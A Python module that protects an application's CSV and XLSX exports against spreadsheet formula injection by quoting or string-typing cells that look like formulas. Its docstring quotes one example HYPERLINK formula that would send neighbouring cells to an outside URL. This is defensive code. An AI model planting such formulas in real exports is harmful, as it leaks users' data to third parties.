"""Cells of every CSV and XLSX export: text stays text, never a formula.

A spreadsheet program treats a cell that begins with "=", "+", "-" or "@" as a formula. Text that
users typed – a claim's description, a measure's title, a region's name – could then call
``=HYPERLINK("https://…?"&A1, "Beleg")`` and send the neighbouring cells elsewhere when someone
clicks, or worse (OWASP "CSV Injection"). So, following OWASP's advice:

- CSV (:func:`csv_writer`, :func:`csv_cell`): a text cell beginning with ``=``, ``+``, ``-``,
  ``@``, tab or carriage return – or their full-width forms ``＝＋－＠``, which some East Asian
  spreadsheet settings also read as a formula start – gets a leading single quote. A cell that is
  just a number ("-12,50", "+3", "-1.234,5 %") is left alone: it can hold no formula, and an
  export's negative figures must stay figures. Numbers and dates given as such are not touched.
- XLSX (:func:`xlsx_append`): text is written as a string cell (openpyxl would otherwise store
  "=…" as a formula) and, where it looks like a formula, with the "quote prefix" style that
  Excel and LibreOffice set themselves for '=…, so it stays text even when someone edits the cell.

Both also drop the characters XML cannot hold (core.text; openpyxl refuses them with an error).

Not used for the pabulib file of a participatory budget (participation.engine.pabulib): that is a
data format read by counting software (pabutools), not a spreadsheet; a quote before a project
name there would change the data. Its writer already removes the separator and line breaks.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from leuchtfeuer.core.text import clean_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?(?:\s?%)?")


def looks_like_formula(text: str) -> bool:
    """Would a spreadsheet program read `text` as a formula (and it is not just a number)?"""
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """A CSV cell: text cleaned and, if it looks like a formula, quoted with "'"; other values as given."""
    if not isinstance(value, str):
        return value
    value = clean_text(value)
    return "'" + value if looks_like_formula(value) else value


class _CsvWriter:
    """csv.writer whose every cell passes through :func:`csv_cell`."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **fmtparams: Any) -> _CsvWriter:
    """Like csv.writer(stream, **fmtparams), but safe for spreadsheet programs (see above)."""
    return _CsvWriter(csv.writer(stream, **fmtparams))


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """What to append to `sheet` for `value`: a string cell for text, the value itself otherwise."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell.cell import Cell

    text = clean_text(value)
    cell = Cell(sheet, value=text)
    cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error; text stays text
    if looks_like_formula(text):
        cell.quotePrefix = True
    return cell


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """sheet.append(values), with every text written as text (see above)."""
    sheet.append([xlsx_cell(sheet, value) for value in values])
